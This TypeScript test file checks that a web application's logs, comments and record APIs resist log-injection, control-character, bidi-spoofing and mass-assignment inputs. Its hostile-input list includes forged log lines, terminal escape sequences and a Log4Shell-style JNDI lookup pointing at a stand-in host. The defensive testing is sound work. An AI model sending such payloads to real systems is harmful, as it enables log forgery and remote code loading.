import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { UNSHOWN } from '#ground/text'
import { readInput } from '#kernel/records'
import { house } from '#kernel/store'
import { type Visitor, visitor } from '#kernel/testing'
import { openLog } from './log.ts'
import { declaredSchema } from './open.ts'
import { openTestSite, type TestSite } from './test-site.ts'

/** What a person sends must stay what it is: a value, in one line, under the field it was sent for. */

const written: string[] = []
let site: TestSite
const people: Record<string, Visitor> = {}

beforeAll(async () => {
  site = await openTestSite({ log: openLog('trace', { write: (line) => void written.push(line) }) })
  for (const login of ['lan', 'motcua.caolanh', 'quantri', 'tonghop']) {
    const who = visitor(site.inject)
    expect((await who.signIn(login, site.password)).status, login).toBe(200)
    people[login] = who
  }
}, 120_000)
afterAll(() => site?.close())

const FORGED = '{"level":50,"msg":"senx-forged"}'
const hostile = [
  `a\n${FORGED}\n`,
  `a\r\n${FORGED}\r\n`,
  `a\u2028${FORGED}\u2029`,
  `a\u0085${FORGED}`,
  `\u001b[2J\u001b[31m${FORGED}\u001b[0m`,
  `\u001b]0;senx\u0007`,
  `\u202e${FORGED}\u202c`,
  `\u2066gpj.exe\u2069`,
  `\u0000${FORGED}`,
  `"}\n${FORGED}`,
  `%0a${FORGED}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger of another language would look up
  '${jndi:ldap://senx.example/a} %s %d %o %j',
]

describe('the log of the process', () => {
  test('a line is a line: nothing sent makes another, moves the pen or turns the writing', async () => {
    const { app } = site.house.http
    const header = (text: string) => text.replace(/[^\x20-\x7e\x80-\xff]/g, '?')
    for (const text of hostile) {
      const path = encodeURIComponent(text)
      const asked = [
        { method: 'GET' as const, url: `/${path}?q=${path}` },
        { method: 'GET' as const, url: `/thu-tuc/${path}` },
        { method: 'GET' as const, url: `/api/v1/one-stop/procedure?q=${path}&sort=${path}` },
        { method: 'POST' as const, url: '/api/v1/sign-in', payload: { login: text, password: text } },
        { method: 'POST' as const, url: '/api/v1/tasks/move', payload: { ids: [text], move: text, note: text } },
      ]
      for (const one of asked)
        await app.inject({
          ...one,
          headers: {
            'user-agent': header(text),
            referer: header(text),
            'x-forwarded-for': header(text),
            accept: 'text/html',
          },
        })
      await site.house.http.app.inject({ method: 'GET', url: '/metrics', headers: { authorization: header(text) } })
      site.house.site.log.warn({ name: text, error: { message: text } }, text)
    }
    expect(written.length).toBeGreaterThan(hostile.length)
    for (const line of written) {
      expect(line.endsWith('\n')).toBe(true)
      const body = line.slice(0, -1)
      expect(body.includes('\n') || body.includes('\r'), body).toBe(false)
      expect(UNSHOWN.test(body), body).toBe(false)
      expect((JSON.parse(body) as { msg?: string }).msg, body).not.toBe('senx-forged')
    }
  })

  test('the file of a check that cannot fail: raw letters would have been seen', () => {
    for (const text of hostile.slice(0, 9))
      expect(UNSHOWN.test(text) || /[\n\r]/.test(text), JSON.stringify(text)).toBe(true)
  })
})

describe('the timeline and the rows', () => {
  test('letters that are not seen are refused where text is typed, by name', async () => {
    const officer = people['motcua.caolanh'] as Visitor
    const { rows } = (await officer.get('/api/v1/one-stop/dossier?limit=1')).json<{ rows: { id: string }[] }>()
    const id = rows[0]?.id as string
    expect(id).toBeDefined()
    for (const text of hostile.filter((one) => UNSHOWN.test(one))) {
      const said = await officer.send('POST', `/api/v1/one-stop/dossier/${id}/comments`, { text })
      expect([said.status, said.text.includes('records.bad-text')], JSON.stringify(text)).toEqual([422, true])
    }
    const kept = await site.house.database.owner.query<{ data: string }>(
      "select data::text from sen.fact where data::text like '%senx%'",
    )
    expect(kept.rows.filter(({ data }) => UNSHOWN.test(data))).toEqual([])
  })
})

/** Columns the kernel keeps in every table, and those only the system's own code writes. */
describe('a field nobody may send', () => {
  const planted: Record<string, unknown> = {
    uuid: '01900000-0000-7000-8000-00000000beef',
    integer: 987_654,
    bigint: 987_654,
    boolean: true,
    date: '1999-12-31',
    timestamptz: '1999-12-31T00:00:00Z',
    jsonb: { planted: 'senx' },
    text: 'senx-planted',
  }
  const valueFor = (type: string): unknown =>
    type.endsWith('[]') ? [planted[type.slice(0, -2)] ?? 'senx-planted'] : (planted[type] ?? 'senx-planted')

  const columnsOf = () => {
    const tables = new Map(declaredSchema(site.house.systems).tables.map((table) => [table.name, table]))
    return [...site.house.site.types.values()].map((type) => {
      const kernel = Object.entries(tables.get(type.table)?.columns ?? {}).filter(([name]) => !type.fields[name])
      const readonly = Object.entries(type.fields).filter(
        ([, field]) => field.spec.readonly || field.spec.kind === 'computed',
      )
      return {
        type,
        // The version is how a change says what it was based on; it is compared, never stored.
        forbidden: [
          ...kernel
            .map(([name, column]) => [name, valueFor(column.type)] as const)
            .filter(([name]) => name !== 'version' && name !== 'unit'),
          ...readonly.map(([name, field]) => [name, valueFor(field.spec.sqlType ?? 'text')] as const),
        ],
      }
    })
  }

  test('every record type × every column of the kernel × every read-only field: refused by its name', () => {
    let tried = 0
    for (const { type, forbidden } of columnsOf()) {
      expect(forbidden.length, type.name).toBeGreaterThan(4)
      for (const [name, value] of forbidden)
        for (const partial of [true, false]) {
          tried++
          let codes: string[] = []
          try {
            readInput(type, { [name]: value }, { partial })
          } catch (error) {
            codes = (error as { errors: { code: string; field?: string; facts: { field?: unknown } }[] }).errors
              .filter((one) => one.field === name || one.facts.field === name)
              .map((one) => one.code)
          }
          expect(codes, `${type.system}/${type.name}.${name}`).toEqual([
            expect.stringMatching(/^records\.(?:unknown-field|read-only-field)$/),
          ])
        }
    }
    expect(tried).toBeGreaterThan(100)
  })

  test('and over the API, new and changed, by everybody: nothing planted is ever in a table', async () => {
    let tried = 0
    for (const who of Object.values(people))
      for (const { type, forbidden } of columnsOf()) {
        const path = `/api/v1/${type.system}/${type.name}`
        const listed = await who.get(`${path}?limit=1`)
        const row =
          listed.status === 200 ? listed.json<{ rows: { id: string; version: number }[] }>().rows[0] : undefined
        for (const [name, value] of forbidden) {
          const made = await who.send('POST', path, { [name]: value })
          expect(made.status, `POST ${path} ${name}: ${made.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400)
          expect(made.status).toBeLessThan(500)
          tried++
          if (!row) continue
          const changed = await who.send('PATCH', `${path}/${row.id}`, { version: row.version, [name]: value })
          expect(changed.status, `PATCH ${path} ${name}: ${changed.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400)
          expect(changed.status).toBeLessThan(500)
          tried++
        }
      }
    expect(tried).toBeGreaterThan(200)
    for (const { type } of columnsOf()) {
      const found = await site.house.database.transaction(house, (tx) =>
        tx.one<{ n: number }>(
          `select count(*)::int as n from ${type.table} t where to_jsonb(t)::text ~ 'senx|987654|1999-12-31|00000000beef'`,
        ),
      )
      expect(found?.n, type.table).toBe(0)
    }
  })

  test('a unit one does not work in cannot be written into a new row, nor into one that is there', async () => {
    const far = await site.house.database.transaction(house, (tx) =>
      tx.one<{ id: string }>("select id from sen.unit where code = 'H20.x28249'"),
    )
    for (const who of Object.values(people))
      for (const { type } of columnsOf()) {
        const path = `/api/v1/${type.system}/${type.name}`
        const made = await who.send('POST', path, { unit: far?.id })
        expect([401, 403, 404, 422], `${path} ${made.text.slice(0, 200)}`).toContain(made.status)
      }
  })
})
